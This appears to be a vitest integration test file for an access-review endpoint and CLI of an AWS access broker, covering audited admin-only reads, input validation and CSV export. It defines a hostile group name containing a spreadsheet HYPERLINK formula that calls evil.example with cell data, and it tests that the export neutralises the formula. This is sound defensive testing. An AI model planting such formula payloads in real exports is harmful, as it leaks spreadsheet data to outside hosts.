// Issue 16's access review against the real broker, emulator and `gatehouse-broker`: GET
// /v1/admin/access-report (JSON and CSV) after real credentials, console sessions and a role-access grant;
// who may read it; hostile query values and group names; and the same report from the command line on the
// broker's database after a restart.

import { execFile } from "node:child_process";
import { readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Emulator } from "../../dev/aws/server.ts";
import { type AccessReport, accessReportCsv, accessReportSchema } from "../../shared/access-report.ts";
import { brokerYaml } from "../support/broker.ts";
import { startDemoEmulator } from "../support/emulator.ts";
import { asRequest, RequestsBroker, signPeople, type Who } from "../support/requests.ts";
import { signTokens, startTestIssuer, type TestIssuer } from "../support/test-issuer.ts";

const ROOT = join(import.meta.dirname, "../..");
const DEVELOPER = "arn:aws:iam::333333333333:role/Developer";
const READ_ONLY = "arn:aws:iam::222222222222:role/ReadOnly";
const BILLING = "arn:aws:iam::222222222222:role/Billing";
const HOSTILE_GROUP = '=HYPERLINK("http://evil.example/"&A1,"click")';

let emulator: Emulator;
let issuer: TestIssuer;
let tokens: Record<Who, string>;
let eve: string;
let b: RequestsBroker;

beforeAll(async () => {
  emulator = await startDemoEmulator();
  issuer = await startTestIssuer();
  tokens = await signPeople(issuer);
  // A group name chosen by whoever runs the IdP (or can create groups in it), written into the CSV.
  eve = (
    await signTokens(issuer, { eve: { email: "eve@example.com", groups: [HOSTILE_GROUP, "engineers"] } })
  ).eve;
  b = new RequestsBroker({ emulator, issuer, tokens, extra: "requests:\n  approver_groups: [approvers]\n" });
  await b.start();
});

afterAll(async () => {
  await b?.close();
  await issuer?.close();
  await emulator?.close();
});

function brokerCli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((res) => {
    execFile(
      process.execPath,
      [join(ROOT, "bin/gatehouse-broker.mjs"), ...args],
      { cwd: ROOT, timeout: 60_000, maxBuffer: 64 * 1024 * 1024 },
      (err, stdout, stderr) => res({ code: err ? Number(err.code ?? 1) : 0, stdout, stderr }),
    );
  });
}

const report = async (query = ""): Promise<AccessReport> => {
  const r = await b.call("gina", "GET", `/v1/admin/access-report${query}`);
  expect(r.status).toBe(200);
  return accessReportSchema.parse(r.json);
};
const personOf = (rep: AccessReport, email: string) => rep.people.find((p) => p.email === email)!;
const roleRefs = (rep: AccessReport, email: string) =>
  personOf(rep, email).roles.map((r) => `${r.accountName}/${r.roleName}`);

let grantId = "";
let routeReport: AccessReport;

describe("GET /v1/admin/access-report", () => {
  it("after real credentials, a console session and a grant: each person's roles, why, until when and last use", async () => {
    expect((await b.call("alice", "POST", "/v1/credentials", { role: "staging/Developer" })).status).toBe(
      200,
    );
    expect((await b.call("alice", "POST", "/v1/console", { role: "staging/Developer" })).status).toBe(200);
    expect((await b.call("dave", "POST", "/v1/credentials", { role: "prod/ReadOnly" })).status).toBe(200);
    // A refused attempt is not use.
    expect((await b.call("carol", "POST", "/v1/credentials", { role: "prod/ReadOnly" })).status).toBe(404);
    grantId = asRequest((await b.billingAccess("carol", "P1D")).json).id;
    expect((await b.call("bob", "POST", `/v1/requests/${grantId}/approve`, {})).status).toBe(200);
    const grant = (await b.get("carol", grantId)).targets[0]!;
    expect(grant.state).toBe("applied");

    const rep = await report();
    routeReport = rep;
    const issued = b.broker.store.listAudit({ action: "credentials.issue" });
    const consoles = b.broker.store.listAudit({ action: "console.url" });
    const alice = personOf(rep, "alice@example.com");
    expect(alice.groups).toEqual(["engineers", "data"]);
    expect(alice.groupsFrom).toBe("audit");
    expect(alice.sources).toEqual(["audit"]);
    expect(roleRefs(rep, "alice@example.com")).toEqual(
      expect.arrayContaining(["prod/ReadOnly", "staging/Developer"]),
    );
    const dev = alice.roles.find((r) => r.arn === DEVELOPER)!;
    expect(dev).toMatchObject({
      level: "console",
      until: null,
      lastCredentials: issued.find((e) => e.actor === "alice@example.com")!.time,
      lastConsole: consoles.find((e) => e.actor === "alice@example.com")!.time,
      unused: false,
    });
    // Developer is tagged for the group engineers and for alice's e-mail: both are shown.
    expect(dev.reasons).toEqual(
      expect.arrayContaining([
        {
          kind: "tag",
          tagKey: "gatehouse-authorized",
          principal: "engineers",
          via: "group",
          level: "console",
        },
        {
          kind: "tag",
          tagKey: "gatehouse-authorized",
          principal: "alice@example.com",
          via: "email",
          level: "console",
        },
      ]),
    );
    // Access she has and never used is flagged.
    expect(alice.roles.find((r) => r.arn === READ_ONLY)).toMatchObject({ lastUsed: null, unused: true });

    const carol = personOf(rep, "carol@example.com");
    expect(carol.sources).toEqual(["audit", "grants"]);
    expect(carol.roles).toEqual([
      expect.objectContaining({
        arn: BILLING,
        level: "console",
        reasons: [{ kind: "grant", requestId: grantId, until: grant.expiresAt }],
        until: grant.expiresAt,
        lastUsed: null,
        unused: true,
      }),
    ]);
    expect(rep.roles.find((r) => r.arn === READ_ONLY)!.people).toEqual(
      expect.arrayContaining([
        { email: "dave@example.com", level: "console", lastUsed: expect.any(String), unused: false },
        { email: "alice@example.com", level: "console", lastUsed: null, unused: true },
      ]),
    );
    expect(rep.roles.find((r) => r.arn === BILLING)!.people.map((p) => p.email)).toEqual([
      "carol@example.com",
    ]);
    // Gatehouse's own roles are nobody's, in the report too.
    expect(rep.roles.some((r) => /GatehouseSpoke|GatehouseCentral/.test(r.arn))).toBe(false);
    expect(rep.totals.people).toBe(rep.people.length);

    // Who read everyone's access is audited.
    expect(b.broker.store.listAudit({ action: "access.report" }).at(-1)).toMatchObject({
      actor: "gina@example.com",
      outcome: "ok",
      detail: { format: "json", unusedDays: 90 },
    });
  }, 120_000);

  it("?unusedDays=N moves the line; ?format=csv is a download with one row per person and role", async () => {
    const all = await report("?unusedDays=1");
    expect(all.unusedDays).toBe(1);
    const r = await b.call("gina", "GET", "/v1/admin/access-report?format=csv&unusedDays=30");
    expect(r.status).toBe(200);
    const res = await fetch(`${b.broker.url}/v1/admin/access-report?format=csv`, {
      headers: { authorization: `Bearer ${tokens.gina}` },
    });
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(
      /^attachment; filename="gatehouse-access-\d{4}-\d\d-\d\d\.csv"$/,
    );
    const lines = (await res.text()).split("\r\n");
    expect(lines[0]).toMatch(/^email,account_id,account_name,role,arn,level,why,until,/);
    expect(
      lines.filter((l) =>
        l.startsWith(
          `carol@example.com,222222222222,prod,Billing,${BILLING},console,grant ${grantId} until `,
        ),
      ),
    ).toHaveLength(1);
  });

  it("only admins may read it: others get 403 (audited), no token 401", async () => {
    const r = await b.call("alice", "GET", "/v1/admin/access-report");
    expect([r.status, r.json.code]).toEqual([403, "FORBIDDEN"]);
    expect(b.broker.store.listAudit({ action: "admin.denied" }).at(-1)).toMatchObject({
      actor: "alice@example.com",
      target: "/v1/admin/access-report",
      outcome: "denied",
    });
    // An approver who is no admin may not read it either.
    expect((await b.call("dave", "GET", "/v1/admin/access-report")).status).toBe(403);
    const anon = await fetch(`${b.broker.url}/v1/admin/access-report`);
    expect(anon.status).toBe(401);
    expect(((await anon.json()) as { code: string }).code).toBe("UNAUTHENTICATED");
  });

  it("hostile query values are 400 BAD_REQUEST with a stable code, never a silent default", async () => {
    for (const q of [
      "?unusedDays=0",
      "?unusedDays=-5",
      "?unusedDays=1.5",
      "?unusedDays=abc",
      "?unusedDays=99999",
      "?format=xml",
      "?format=csv&format=json",
      "?person=alice",
      "?__proto__=x",
    ]) {
      const r = await b.call("gina", "GET", `/v1/admin/access-report${q}`);
      expect([q, r.status, r.json.code]).toEqual([q, 400, "BAD_REQUEST"]);
    }
  });

  it("a group name that is a spreadsheet formula arrives in the CSV as text", async () => {
    const me = await fetch(`${b.broker.url}/v1/me`, { headers: { authorization: `Bearer ${eve}` } });
    expect(me.status).toBe(200);
    const rep = await report();
    expect(personOf(rep, "eve@example.com").groups).toEqual([HOSTILE_GROUP, "engineers"]);
    const csv = accessReportCsv(rep.people);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    const res = await fetch(`${b.broker.url}/v1/admin/access-report?format=csv`, {
      headers: { authorization: `Bearer ${tokens.gina}` },
    });
    for (const line of (await res.text()).split("\r\n"))
      for (const cell of line.split(",")) expect(cell).not.toMatch(/^"?[=+\-@]/);
  });
});

describe("gatehouse-broker access report", () => {
  it("prints the same report from the broker's database after a restart, as CSV or JSON, to a 0600 file; bad flags are BAD_ARGUMENT", async () => {
    await b.stop();
    const file = join(b.dir, "gatehouse.yaml");
    writeFileSync(file, brokerYaml({ issuer: issuer.issuer, awsUrl: emulator.url, database: b.db }));

    const json = await brokerCli([
      "access",
      "report",
      "--config",
      file,
      "--format",
      "json",
      "--unused-days",
      "90",
    ]);
    expect([json.code, json.stderr]).toEqual([0, ""]);
    const fromCli = accessReportSchema.parse(JSON.parse(json.stdout));
    const stable = (r: AccessReport) => r.people.filter((p) => p.email !== "eve@example.com");
    expect(stable(fromCli)).toEqual(stable(routeReport));
    expect(fromCli.roles.map((r) => r.arn)).toEqual(routeReport.roles.map((r) => r.arn));

    const csv = await brokerCli(["access", "report", "--config", file]);
    expect(csv.code).toBe(0);
    expect(csv.stdout.split("\r\n")[0]).toMatch(/^email,account_id,/);
    expect(csv.stdout).toContain(`,grant ${grantId} until `);

    const out = join(b.dir, "access.csv");
    writeFileSync(out, "old", { mode: 0o644 });
    const toFile = await brokerCli([
      "access",
      "report",
      "--config",
      file,
      "--out",
      out,
      "--unused-days",
      "7",
    ]);
    expect([toFile.code, toFile.stdout]).toEqual([0, ""]);
    expect(statSync(out).mode & 0o777).toBe(0o600);
    expect(readFileSync(out, "utf8").split("\r\n")[0]).toMatch(/^email,/);

    // Each wrong flag is checked in the unit tests (accessReportInput); here: the real exit code and message.
    const bad = await brokerCli(["access", "report", "--config", file, "--unused-days", "0"]);
    expect([bad.code, bad.stderr]).toEqual([2, expect.stringContaining("[BAD_ARGUMENT]")]);
    const missing = join(b.dir, "nothing.yaml");
    writeFileSync(
      missing,
      brokerYaml({ issuer: issuer.issuer, awsUrl: emulator.url, database: join(b.dir, "none.sqlite") }),
    );
    expect((await brokerCli(["access", "report", "--config", missing])).stderr).toContain("[BAD_ARGUMENT]");

    // The command line's reads are audited too, as the operating-system user.
    await b.start();
    const rows = b.broker.store.listAudit({ action: "access.report" });
    expect(rows.filter((r) => r.actor.startsWith("os-user:"))).toHaveLength(3);
  }, 180_000);
});
